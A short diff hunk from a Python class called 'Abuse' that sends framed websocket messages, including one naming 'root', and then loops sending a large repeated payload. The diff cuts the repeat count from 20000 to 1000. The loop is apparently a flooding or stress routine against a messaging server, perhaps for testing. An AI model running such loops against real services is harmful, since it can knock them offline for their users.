@@ -105,7 +105,7 @@ class Abuse:
         self.hold(s, 30)
         s.sendall(ws(envelope(FRAMEWORK, name, MASTER, 60, part(1, part(1, "root") + part(2, name)))))
         s.settimeout(0.05)
-        asked = part(1, part(1, part(1, "t"))) * 20000
+        asked = part(1, part(1, part(1, "t"))) * 1000
         while True:
             s.sendall(ws(envelope(FRAMEWORK, name, MASTER, 68, asked)))
 
